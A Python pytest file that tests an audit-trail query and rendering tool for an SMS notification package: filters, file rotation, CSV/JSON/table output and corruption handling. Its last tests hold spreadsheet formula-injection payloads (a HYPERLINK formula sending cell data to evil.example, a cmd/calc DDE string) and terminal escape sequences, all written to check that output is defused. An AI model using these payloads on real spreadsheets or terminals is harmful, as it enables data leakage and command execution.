"""The audit trail: rotation by size, queries over every segment, formats, summary and story."""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
import subprocess
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from rich.console import Console

from x3twilio import auditquery, auditscan, auditview
from x3twilio.audit import AuditLog, audit_files, read_records
from x3twilio.auditfilters import Filters
from x3twilio.auditquery import query, story
from x3twilio.auditview import (
    CSV_COLUMNS,
    FORMULA_START,
    render_csv,
    render_json,
    render_story,
    render_summary,
    render_table,
    summary,
)
from x3twilio.errors import StateError

T0 = datetime(2026, 1, 31, 23, 0, tzinfo=UTC)
SUPPLIER, FINANCE, UNKNOWN, OURS = "+33611111111", "+33622222222", "+447700900123", "+15017122661"


class Clock:
    """A fixed clock that moves only when told."""

    def __init__(self, now: datetime = T0) -> None:
        self.now = now

    def __call__(self) -> datetime:
        return self.now

    def tick(self, **delta: float) -> None:
        self.now += timedelta(**delta)


def notify(log: AuditLog, event: str, record: str, rule: str = "po-approved", **extra):
    fields = {
        "id": f"{rule}:{record}",
        "rule": rule,
        "source": "invoices" if rule == "invoice-due-soon" else "purchase_orders",
        "record": record,
        "channel": "sms",
        "to": FINANCE if rule == "invoice-due-soon" else SUPPLIER,
        "status": event.rsplit(".", 1)[1],
    }
    return log.write(event, **{**fields, **extra})


def reply(log: AuditLog, event: str, sid: str, sender: str, status: str, **extra):
    fields = {"id": sid, "from": sender, "to": OURS, "channel": "sms", "status": status}
    return log.write(event, **fields, **extra)


@pytest.fixture
def trail(tmp_path: Path) -> Path:
    """A poll at the end of January, then an ingest and a retry in February."""
    clock = Clock()
    log = AuditLog(tmp_path, "run-1", clock)
    log.write("run.started", command="poll")
    notify(log, "notification.queued", "PO1", body="PO1 approuvée : livraison le 3 février")
    clock.tick(seconds=1)
    error = {"code": 20429, "message": "Too Many Requests", "permanent": False}
    notify(log, "notification.failed", "PO1", attempt=1, error=error)
    clock.tick(seconds=1)
    notify(log, "notification.sent", "PO1", provider_id="SM1", attempt=2)
    notify(log, "notification.queued", "INV7", rule="invoice-due-soon", body="INV7 due")
    notify(log, "notification.skipped", "PO2", reason="quiet_hours")
    log.write("run.finished", counts={"sent": 1, "failed": 1})
    log.close()
    clock.tick(hours=2)  # 2026-02-01T01:00:02Z: a new month, a new file
    log = AuditLog(tmp_path, "run-2", clock)
    notify(log, "notification.status", "PO1", status="delivered", provider_id="SM1")
    clock.tick(minutes=5)
    reply(log, "inbound.logged", "SM9", SUPPLIER, "logged", body="OK pour PO1",
          matched="BPSUPPLIER:FR001", reference="PO1")  # fmt: skip
    reply(log, "inbound.received", "SM8", UNKNOWN, "unmatched", body="who is this?", matched=None)
    error = {"code": 21211, "message": "Invalid 'To' Phone Number", "permanent": True}
    notify(log, "notification.failed", "INV7", rule="invoice-due-soon", attempt=1, error=error)
    log.close()
    return tmp_path


def events(records) -> list[str]:
    return [f"{r['event']} {r.get('record') or r.get('from')}" for r in records]


def at(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


# -- filters --------------------------------------------------------------------------------


INV7 = ["notification.queued INV7", "notification.failed INV7"]
REPLIES = ["inbound.logged +33611111111", "inbound.received +447700900123"]
BOTH_FAILED = ["notification.failed PO1", "notification.failed INV7"]


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (Filters(rule="invoice-due-soon"), INV7),
        (Filters(source="invoices"), INV7),
        (Filters(status="failed"), BOTH_FAILED),
        (Filters(event="notification.skipped"), ["notification.skipped PO2"]),
        (Filters(event="skipped"), ["notification.skipped PO2"]),
        (Filters(event="failed", status="failed"), BOTH_FAILED),
        (Filters(event="notification.*", record="INV7"), INV7),
        (Filters(event="inbound"), REPLIES),
        (Filters(event="run.*"), ["run.started None", "run.finished None"]),
        (Filters(phone=UNKNOWN), ["inbound.received +447700900123"]),
        (Filters(phone=FINANCE), INV7),
        (Filters(ids=("SM1", "SM8")), ["notification.sent PO1", "notification.status PO1",
                                       "inbound.received +447700900123"]),
        (Filters(ids=("invoice-due-soon:INV7",)), INV7),
        (Filters(record="FR001"), ["inbound.logged +33611111111"]),
        (Filters(record="PO", status="failed"), []),
        (Filters(rule="po-approved", status="failed", phone=SUPPLIER, event="notification",
                 source="purchase_orders", record="PO1"), ["notification.failed PO1"]),
    ],
)  # fmt: skip
def test_each_filter_selects_exactly_its_records(trail, filters, expected):
    assert events(query(trail, filters)) == expected


def test_record_filter_finds_what_was_sent_about_it_and_the_replies_about_it(trail):
    assert events(query(trail, Filters(record="PO1"))) == [
        "notification.queued PO1",
        "notification.failed PO1",
        "notification.sent PO1",
        "notification.status PO1",
        "inbound.logged +33611111111",
    ]


def test_time_filters_include_since_and_exclude_until_across_months(trail):
    sent = at("2026-01-31T23:00:02.000Z")
    assert events(query(trail, Filters(since=sent, until=at("2026-02-01T01:05:02Z")))) == [
        "notification.sent PO1",
        "notification.queued INV7",
        "notification.skipped PO2",
        "run.finished None",
        "notification.status PO1",
    ]
    february = query(trail, Filters(since=at("2026-02-01T00:00:00Z")))
    assert [r["run_id"] for r in february] == ["run-2"] * 4
    paris = datetime(2026, 2, 1, 2, 5, 2, tzinfo=timezone(timedelta(hours=1)))  # 01:05:02Z
    assert len(list(query(trail, Filters(since=paris)))) == 3


def test_filters_refuse_naive_times():
    with pytest.raises(ValueError, match="since"):
        Filters(since=datetime(2026, 1, 1))  # noqa: DTZ001


def test_limit_stops_after_n_records(trail):
    assert events(query(trail, Filters(record="PO1"), limit=2)) == [
        "notification.queued PO1",
        "notification.failed PO1",
    ]
    assert list(query(trail, Filters(), limit=0)) == []
    assert len(list(query(trail, Filters(), limit=100))) == 11


def test_records_come_back_as_stored(trail):
    assert list(query(trail, Filters())) == list(read_records(trail))


# -- formats --------------------------------------------------------------------------------


def test_json_output_is_every_stored_line_byte_for_byte(trail):
    stored = b"".join(path.read_bytes() for path in audit_files(trail))
    out = io.BytesIO()  # records are encoded again, exactly as the writer did
    render_json(query(trail, Filters()), out)
    assert out.getvalue() == stored
    lines = io.BytesIO()  # or the stored lines go through untouched
    render_json(auditquery.query_lines(trail, Filters()), lines)
    assert lines.getvalue() == stored
    text = io.StringIO()
    render_json(query(trail, Filters()), text)
    assert text.getvalue() == stored.decode()
    assert [json.loads(line) for line in text.getvalue().splitlines()] == list(read_records(trail))


def test_csv_has_a_fixed_header_and_one_row_per_record(trail):
    out = io.StringIO()
    render_csv(query(trail, Filters(record="PO1")), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert out.getvalue().splitlines()[0] == ",".join(f'"{c}"' for c in CSV_COLUMNS)
    assert [r["event"] for r in rows] == [
        "notification.queued",
        "notification.failed",
        "notification.sent",
        "notification.status",
        "inbound.logged",
    ]
    failed = rows[1]
    assert (failed["error_code"], failed["error_permanent"], failed["attempt"]) == (
        "20429",
        "false",
        "1",
    )
    assert rows[0]["body"] == "PO1 approuvée : livraison le 3 février"
    assert (rows[4]["from"], rows[4]["matched"], rows[4]["reference"]) == (
        SUPPLIER,
        "BPSUPPLIER:FR001",
        "PO1",
    )


def console(width: int = 160) -> Console:
    return Console(file=io.StringIO(), color_system=None, width=width)


def screen_lines(screen: Console) -> list[str]:
    return [line.rstrip() for line in screen.file.getvalue().splitlines()]


def test_table_shows_one_row_per_record_with_its_detail(trail):
    screen = console()
    render_table(query(trail, Filters(record="PO1")), screen)
    assert screen_lines(screen) == [
        "ts                    event            rule          record   to/from        status      detail",  # noqa: E501
        "─" * 138,
        "2026-01-31 23:00:00   queued           po-approved   PO1      +33611111111   queued",
        "2026-01-31 23:00:01   failed           po-approved   PO1      +33611111111   failed      error 20429: Too Many Requests (transient)",  # noqa: E501
        "2026-01-31 23:00:02   sent             po-approved   PO1      +33611111111   sent        SM1",  # noqa: E501
        "2026-02-01 01:00:02   status           po-approved   PO1      +33611111111   delivered   SM1",  # noqa: E501
        '2026-02-01 01:05:02   inbound.logged                          +33611111111   logged      logged on BPSUPPLIER:FR001; re PO1; "OK pour PO1"',  # noqa: E501
    ]  # fmt: skip
    empty = console()
    render_table(query(trail, Filters(rule="nope")), empty)
    assert screen_lines(empty) == ["no matching audit records"]


def test_a_long_table_is_printed_in_blocks_with_one_header(trail, monkeypatch):
    monkeypatch.setattr(auditview, "TABLE_BLOCK", 3)
    screen = console()
    render_table(query(trail, Filters()), screen)
    text = screen.file.getvalue()
    assert text.count("to/from") == 1
    assert sum(line.startswith("2026-") for line in text.splitlines()) == 11


# -- summary and story ----------------------------------------------------------------------


def test_summary_counts_each_notification_once_by_its_latest_state(trail):
    result = summary(query(trail, Filters()))
    assert result.outcomes["po-approved"] == {"sent": 1, "skipped": 1}  # PO1 failed, then sent
    assert result.outcomes["invoice-due-soon"] == {"failed": 1}  # queued, then failed
    assert result.delivery == {"po-approved": {"delivered": 1}}
    assert result.rate("po-approved") == 1.0
    assert result.rate("invoice-due-soon") is None  # nothing sent
    assert result.inbound == {"logged": 1, "unmatched": 1}
    assert json.loads(json.dumps(result.as_dict()))["rules"]["po-approved"]["delivery_rate"] == 1.0
    screen = console()
    render_summary(result, screen)
    lines = screen.file.getvalue().splitlines()
    assert any(line.split()[:1] == ["po-approved"] and line.endswith("100.0%") for line in lines)
    assert lines[-1] == "replies: 1 logged, 1 unmatched"


def test_delivery_rate_is_delivered_over_sent(tmp_path):
    log = AuditLog(tmp_path, "run-1", Clock())
    for n in range(4):
        notify(log, "notification.sent", f"PO{n}", provider_id=f"SM{n}")
    notify(log, "notification.status", "PO0", status="delivered")
    notify(log, "notification.status", "PO1", status="undelivered")
    notify(log, "notification.status", "PO2", status="sent")  # on its way, not delivered
    assert summary(query(tmp_path, Filters())).rate("po-approved") == 0.25


def test_a_reply_logged_after_a_failure_counts_once_and_email_has_no_receipts(tmp_path):
    clock = Clock()
    log = AuditLog(tmp_path, "run-1", clock)
    for n in range(6):  # six reminders, each queued then sent by email
        notify(log, "notification.queued", f"INV{n}", rule="invoice-mail", channel="email")
        clock.tick(seconds=1)
        notify(log, "notification.sent", f"INV{n}", rule="invoice-mail", channel="email")
    reply(log, "inbound.failed", "SM9", SUPPLIER, "failed")
    clock.tick(seconds=1)
    reply(log, "inbound.logged", "SM9", SUPPLIER, "logged")
    log.close()
    result = summary(query(tmp_path, Filters()))
    assert result.outcomes == {"invoice-mail": {"sent": 6}}
    assert result.inbound == {"logged": 1}
    assert result.rate("invoice-mail") is None
    assert result.as_dict()["rules"]["invoice-mail"]["delivery"] is None
    screen = console()
    render_summary(result, screen)
    (row,) = (line for line in screen.file.getvalue().splitlines() if "invoice-mail" in line)
    assert row.split()[1:] == ["0", "0", "6", "0", "—", "—", "—", "—"]


def test_partner_filter_finds_what_was_sent_to_a_partner_and_its_replies(tmp_path):
    log = AuditLog(tmp_path, "run-1", Clock())
    notify(log, "notification.sent", "PO1", partner="BPSUPPLIER:FR001")
    notify(log, "notification.sent", "PO2", partner="BPSUPPLIER:FR0011")  # a longer code
    reply(log, "inbound.logged", "SM9", SUPPLIER, "logged", matched="BPSUPPLIER:FR001")
    reply(log, "inbound.received", "SM8", UNKNOWN, "unmatched", matched=None)
    log.close()
    found = [(r["event"], r["id"]) for r in query(tmp_path, Filters(partner="FR001"))]
    assert found == [("notification.sent", "po-approved:PO1"), ("inbound.logged", "SM9")]


def test_story_tells_one_record_in_time_order(trail, tmp_path):
    log = AuditLog(trail, "run-3", Clock(T0 - timedelta(days=1)))  # a late writer, older stamp
    notify(log, "notification.skipped", "PO1", reason="duplicate")
    log.close()
    told = story(trail, "PO1")
    assert [(r["event"], r["status"]) for r in told] == [
        ("notification.skipped", "skipped"),
        ("notification.queued", "queued"),
        ("notification.failed", "failed"),
        ("notification.sent", "sent"),
        ("notification.status", "delivered"),
        ("inbound.logged", "logged"),
    ]
    screen = console()
    render_story(told, screen, "PO1")
    text = screen.file.getvalue()
    steps = ["decided: skip", "decided: send", "attempt 1 failed", "sent", "delivery", "reply"]
    positions = [text.index(step) for step in steps]
    assert positions == sorted(positions)
    assert text.startswith("PO1: 6 events")
    assert '"OK pour PO1"' in text and "logged on BPSUPPLIER:FR001" in text
    nothing = console()
    render_story(story(trail, "PO404"), nothing, "PO404")
    assert nothing.file.getvalue() == "no audit records about PO404\n"


# -- rotation -------------------------------------------------------------------------------


def test_a_full_month_continues_in_numbered_files_and_queries_span_them(tmp_path):
    clock = Clock(datetime(2026, 1, 31, 22, tzinfo=UTC))
    log = AuditLog(tmp_path, "run-1", clock, max_bytes=1000)
    written = []
    for n in range(100):
        written.append(notify(log, "notification.sent", f"PO{n}", provider_id=f"SM{n}"))
        clock.tick(seconds=90)  # crosses into February after 80 records
    log.close()
    names = [p.name for p in audit_files(tmp_path)]
    assert names[:3] == ["2026-01.jsonl", "2026-01.1.jsonl", "2026-01.2.jsonl"]
    assert "2026-01.10.jsonl" in names and "2026-02.jsonl" in names
    assert names.index("2026-01.10.jsonl") == names.index("2026-01.9.jsonl") + 1
    assert all(p.stat().st_size <= 1000 for p in audit_files(tmp_path))
    assert list(read_records(tmp_path)) == written
    assert list(query(tmp_path, Filters())) == written
    span = Filters(since=at("2026-01-31T23:57:00Z"), until=at("2026-02-01T00:01:30Z"))
    assert [r["record"] for r in query(tmp_path, span)] == ["PO78", "PO79", "PO80"]
    assert [r["record"] for r in query(tmp_path, Filters(record="PO99"))] == ["PO99"]
    assert [r["record"] for r in query(tmp_path, Filters(record="PO7"))] == ["PO7"]


def test_a_reopened_log_continues_in_the_newest_segment(tmp_path):
    clock = Clock()
    for run in range(3):
        log = AuditLog(tmp_path, f"run-{run}", clock, max_bytes=700)
        for _ in range(4):
            log.write("run.started", command="poll")
        log.close()
    runs = [r["run_id"] for r in read_records(tmp_path)]
    assert runs == [f"run-{n}" for n in range(3) for _ in range(4)]
    assert all(p.stat().st_size <= 700 for p in audit_files(tmp_path))


def test_writers_sharing_a_trail_never_write_behind_a_rotation(tmp_path):
    clock = Clock()
    poll = AuditLog(tmp_path, "poll", clock, max_bytes=600)
    ingest = AuditLog(tmp_path, "ingest", clock, max_bytes=600)
    order = []
    for n in range(40):  # two processes' worth of writers, each holding an open file
        writer = poll if n % 3 else ingest
        order.append(writer.write("run.started", command=f"c{n}")["command"])
    poll.close()
    ingest.close()
    assert [r["command"] for r in read_records(tmp_path)] == order
    assert len(audit_files(tmp_path)) > 5


def test_a_record_larger_than_the_limit_gets_a_file_of_its_own(tmp_path):
    log = AuditLog(tmp_path, "run-1", Clock(), max_bytes=300)
    log.write("run.started")
    log.write("notification.queued", body="x" * 500)
    log.write("run.finished")
    log.close()
    sizes = [p.stat().st_size for p in audit_files(tmp_path)]
    assert len(sizes) == 3 and sizes[1] > 500
    assert [r["event"] for r in query(tmp_path, Filters())] == [
        "run.started",
        "notification.queued",
        "run.finished",
    ]


# -- crash safety ---------------------------------------------------------------------------


@pytest.mark.parametrize("chunk", [50, auditscan.CHUNK])
def test_a_torn_last_line_is_skipped_in_every_segment(trail, monkeypatch, chunk):
    monkeypatch.setattr(auditscan, "CHUNK", chunk)
    for path in audit_files(trail):  # a crash mid-write at the end of each month
        with path.open("ab") as handle:
            handle.write(
                b'{"v":1,"ts":"2026-02-01T09:00:00.000Z","event":"notification.failed","st'
            )
    assert len(list(query(trail, Filters()))) == 11
    assert len(list(query(trail, Filters(status="failed")))) == 2
    assert len(list(query(trail, Filters(since=at("2026-02-01T05:00:00Z"))))) == 0


def test_a_torn_tail_longer_than_the_repair_window_is_cut_at_its_own_start(tmp_path):
    log = AuditLog(tmp_path, "run-1", Clock())
    log.write("run.started")
    log.close()
    (path,) = audit_files(tmp_path)
    with path.open("ab") as handle:
        handle.write(b'{"v":1,"body":"' + b"x" * (3 << 20))  # 3 MiB without a newline
    log = AuditLog(tmp_path, "run-2", Clock())
    log.write("run.finished")
    log.close()
    assert [r["event"] for r in read_records(tmp_path)] == ["run.started", "run.finished"]


@pytest.mark.parametrize("chunk", [50, 4096, auditscan.CHUNK])
def test_corruption_in_the_middle_is_loud_and_names_file_and_line(trail, monkeypatch, chunk):
    monkeypatch.setattr(auditscan, "CHUNK", chunk)
    january = audit_files(trail)[0]
    lines = january.read_bytes().splitlines(keepends=True)
    january.write_bytes(b"".join([*lines[:3], b"\x00\x00\x00garbage\n", *lines[3:]]))
    with pytest.raises(StateError, match=r"2026-01\.jsonl:4: corrupt audit record"):
        list(query(trail, Filters()))
    with pytest.raises(StateError, match=r"2026-01\.jsonl:4: corrupt audit record"):
        list(query(trail, Filters(since=at("2026-01-01T00:00:00Z"))))
    with pytest.raises(StateError, match=r"2026-01\.jsonl:4: corrupt audit record"):
        list(read_records(trail))


def test_a_chunk_not_in_the_writers_shape_is_read_line_by_line(trail):
    january = audit_files(trail)[0]
    january.write_bytes(b"garbage\n" + january.read_bytes())
    with pytest.raises(StateError, match=r"2026-01\.jsonl:1: corrupt audit record"):
        list(query(trail, Filters(status="failed")))
    january.write_bytes(january.read_bytes()[8:].replace(b'{"v":1,', b'{"v": 1, '))
    assert events(query(trail, Filters(status="failed"))) == [
        "notification.failed PO1",
        "notification.failed INV7",
    ]


def test_a_damaged_candidate_line_is_loud_even_in_a_clean_looking_chunk(trail):
    february = audit_files(trail)[1]
    lines = february.read_bytes().splitlines(keepends=True)
    lines[1] = lines[1].replace(b'"status":"logged"', b'"status":"failed",}"x"')
    february.write_bytes(b"".join(lines))
    with pytest.raises(StateError, match=r"2026-02\.jsonl:2: corrupt audit record"):
        list(query(trail, Filters(status="failed")))


@pytest.mark.parametrize(
    "encode",
    [
        lambda rec: json.dumps(rec, separators=(",", ":")),  # compact, but \u00e9 for é
        json.dumps,  # ", " and ": ": not the writer's shape, so every line is parsed
        lambda rec: json.dumps({"ts": rec["ts"], **rec}),  # keys in another order
    ],
)
def test_files_written_by_another_encoder_are_still_read_right(tmp_path, encode):
    log = AuditLog(tmp_path, "run-1", Clock())
    notify(log, "notification.failed", "PO1", rule="relance-échue")
    notify(log, "notification.sent", "PO1", rule="relance-échue")
    log.close()
    (path,) = audit_files(tmp_path)
    records = list(read_records(tmp_path))
    path.write_text("".join(encode(rec) + "\n" for rec in records))
    assert list(query(tmp_path, Filters(rule="relance-échue"))) == records
    assert list(query(tmp_path, Filters(status="failed", rule="relance-échue"))) == records[:1]


# -- the fast path agrees with parsing everything -------------------------------------------


def random_trail(state_dir: Path, count: int, seed: int = 5) -> None:
    """Records built to trip a byte-level filter: look-alike text, nesting, non-ASCII."""
    rng = random.Random(seed)
    clock = Clock(datetime(2026, 3, 30, tzinfo=UTC))
    log = AuditLog(state_dir, "gen", clock, max_bytes=64 << 10)
    tricky = ['"status":"failed"', "échoué ✓", '\\"status\\":\\"failed\\"', "failed"]
    for n in range(count):
        clock.tick(seconds=rng.randint(1, 3000))
        fields = {
            "id": f"id-{n}",
            "rule": rng.choice(["po-approved", "failed", "payment-sent"]),
            "record": rng.choice(["PO1", "PO10", "failed"]),
            "to": rng.choice([SUPPLIER, FINANCE]),
            "body": rng.choice(tricky) if rng.random() < 0.4 else None,
            "reason": rng.choice(["failed", None]),
        }
        if rng.random() < 0.5:
            fields["status"] = rng.choice(["failed", "sent", "Failed", "failed ", "délivré"])
        if rng.random() < 0.1:
            fields["error"] = {"status": "failed", "code": 30008, "permanent": False}
        if rng.random() < 0.05:
            fields["status"] = rng.choice([None, 0, ["failed"]])
        event = rng.choice(["notification.failed", "notification.sent", "inbound.failed"])
        log.write(event, **fields)
    log.close()


def naive(state_dir: Path, test) -> list[dict]:
    found = []
    for path in audit_files(state_dir):
        whole = path.read_bytes()
        for line in whole[: whole.rfind(b"\n") + 1].splitlines():  # not a torn last line
            rec = json.loads(line)
            if test(rec):
                found.append(rec)
    return found


@pytest.mark.parametrize("chunk", [50, 4096, auditscan.CHUNK])
def test_status_failed_returns_exactly_what_parsing_every_line_returns(
    tmp_path, monkeypatch, chunk
):
    monkeypatch.setattr(auditscan, "CHUNK", chunk)  # lines cut by reads, or not
    random_trail(tmp_path, 4000)
    assert len(audit_files(tmp_path)) > 10
    expected = naive(tmp_path, lambda r: r.get("status") == "failed")
    assert 200 < len(expected) < 1000
    assert list(query(tmp_path, Filters(status="failed"))) == expected


@pytest.mark.parametrize("chunk", [700, auditscan.CHUNK])
def test_combined_filters_agree_with_parsing_every_line(tmp_path, monkeypatch, chunk):
    monkeypatch.setattr(auditscan, "CHUNK", chunk)
    random_trail(tmp_path, 3000, seed=9)
    since, until = at("2026-04-10T00:00:00Z"), at("2026-05-20T12:00:00Z")
    cases = [
        Filters(rule="failed"),
        Filters(record="failed", event="notification"),
        Filters(phone=FINANCE, status="failed", since=since),
        Filters(since=since, until=until),
        Filters(event="inbound.failed", until=until, ids=("id-7", "id-2999", "id-1500")),
    ]
    for filters in cases:
        expected = naive(tmp_path, filters.matches)
        assert expected, filters
        assert list(query(tmp_path, filters)) == expected, filters


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed")
def test_json_output_matches_jq_byte_for_byte(tmp_path):
    random_trail(tmp_path, 2000, seed=3)
    files = [str(p) for p in audit_files(tmp_path)]
    jq = subprocess.run(
        ["jq", "-c", 'select(.status=="failed")', *files], capture_output=True, check=True
    )
    ours = io.BytesIO()
    render_json(auditquery.query_lines(tmp_path, Filters(status="failed")), ours)
    assert ours.getvalue() == jq.stdout


def test_message_text_is_shown_as_written_not_as_markup(tmp_path):
    log = AuditLog(tmp_path, "run-1", Clock())
    reply(
        log, "inbound.logged", "SM1", SUPPLIER, "logged", body="[bold]PO[/] [red", reference="PO[1]"
    )
    screen = console()
    render_table(query(tmp_path, Filters()), screen)
    render_story(story(tmp_path, "PO[1]"), screen, "PO[1]")
    text = screen.file.getvalue()
    assert text.count('"[bold]PO[/] [red"') == 2 and "PO[1]: 1 events" in text


@pytest.fixture
def in_parallel(monkeypatch):
    """Make every query use worker processes, reading tiny byte ranges; count the queries."""
    used = []
    real = auditscan._in_parallel

    def spy(paths, filters):
        used.append(filters)
        return real(paths, filters)

    monkeypatch.setattr(auditscan, "PARALLEL_BYTES", 0)
    monkeypatch.setattr(auditscan, "_in_parallel", spy)
    monkeypatch.setattr(auditscan, "_cpus", lambda: 2)
    return used


@pytest.mark.parametrize(("span", "count"), [(37, 100), (700, 1500), (8 << 20, 1500)])
def test_worker_processes_return_what_one_process_returns(
    tmp_path, monkeypatch, in_parallel, span, count
):
    random_trail(tmp_path, count, seed=11)
    last = audit_files(tmp_path)[-1]
    with last.open("ab") as handle:
        handle.write(b'{"v":1,"ts":"2026-06-01T00:00:00.000Z","status":"failed"')  # torn
    cases = [Filters(status="failed"), Filters(), Filters(since=at("2026-04-20T00:00:00Z"))]
    monkeypatch.setattr(auditscan, "RANGE", span)
    for filters in cases:
        expected = naive(tmp_path, filters.matches)
        assert list(query(tmp_path, filters)) == expected
        lines = list(auditquery.query_lines(tmp_path, filters))
        assert [json.loads(line) for line in lines] == expected
    first = list(query(tmp_path, Filters(status="failed"), limit=3))
    assert first == naive(tmp_path, lambda r: r.get("status") == "failed")[:3]
    assert len(in_parallel) == 2 * len(cases) + 1


def test_worker_processes_report_corruption_with_its_line(trail, monkeypatch, in_parallel):
    monkeypatch.setattr(auditscan, "RANGE", 300)
    january = audit_files(trail)[0]
    lines = january.read_bytes().splitlines(keepends=True)
    lines[5] = lines[5].replace(b'"status":"skipped"', b'"status":"failed",}')
    january.write_bytes(b"".join(lines))
    with pytest.raises(StateError, match=r"2026-01\.jsonl:6: corrupt audit record"):
        list(query(trail, Filters(status="failed")))
    assert in_parallel


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_never_leaves_a_cell_that_a_spreadsheet_runs_as_a_formula(start):
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    rec = {"event": "inbound.received", "from": "+33612345678", "body": hostile}
    rec |= {"reference": f"{start}1+2", "record": f"{start}cmd|' /C calc'!A0", "to": start}
    out = io.StringIO()
    render_csv([rec], out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    for column in ("body", "reference", "record", "to"):
        assert row[column] == "'" + str(rec[column]), column  # text, whole, after one quote
    assert all(
        not cell.startswith(FORMULA_START) or cell == "+33612345678" for cell in row.values()
    )


def test_csv_keeps_e164_numbers_and_plain_numbers_exactly_and_quotes_every_cell():
    rec = {"event": "notification.failed", "to": "+33612345678", "attempt": 2}
    rec |= {"error": {"code": -1, "message": "-5 units", "permanent": False}, "body": "+1.5"}
    out = io.StringIO()
    render_csv([rec], out)
    line = out.getvalue().splitlines()[1]
    assert '"+33612345678"' in line and '"-1"' in line and '"+1.5"' in line
    assert '"\'-5 units"' in line  # text that starts with - is defused, numbers are not
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert (row["to"], row["error_code"], row["attempt"]) == ("+33612345678", "-1", "2")
    assert all(cell.startswith('"') and cell.endswith('"') for cell in line.split(","))


def test_tables_show_markup_and_escape_sequences_in_data_as_text(trail):
    log = AuditLog(trail, "run-markup", Clock(T0 + timedelta(days=3)))
    body = "[bold]PO1[/] ok [/] [link=http://evil.example]x \u202egnp.exe"
    log.write("inbound.received", id="SMx", channel="sms", status="received", body=body,
              reference="[/]", to=OURS, matched=None, **{"from": UNKNOWN})  # fmt: skip
    notify(log, "notification.sent", "[/]\x1b[2J\x1b]0;pwned\x07", provider_id="SM[bold]")
    log.close()
    console = Console(file=io.StringIO(), force_terminal=True, width=400, color_system=None)
    render_table(query(trail, Filters(since=T0 + timedelta(days=3))), console)
    render_story(story(trail, "[/]"), console, "[/]")
    render_summary(summary(query(trail, Filters())), console)
    shown = console.file.getvalue()
    assert "[bold]PO1[/] ok [/] [link=http://evil.example]x" in shown and "SM[bold]" in shown
    assert "[/]\\x1b[2J\\x1b]0;pwned\\x07" in shown and "\\u202egnp.exe" in shown
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "[/]: 1 events" in shown  # the story's title, also plain text


def test_csv_defuses_formulas_in_untrusted_text_but_keeps_phone_numbers(tmp_path):
    import io as _io

    from x3twilio.auditview import render_csv

    out = _io.StringIO()
    render_csv(
        [{"event": "inbound.received", "from": "+33612345678", "body": '=HYPERLINK("http://x")'}],
        out,
    )
    text = out.getvalue()
    assert "'=HYPERLINK" in text and ',"+33612345678",' in text
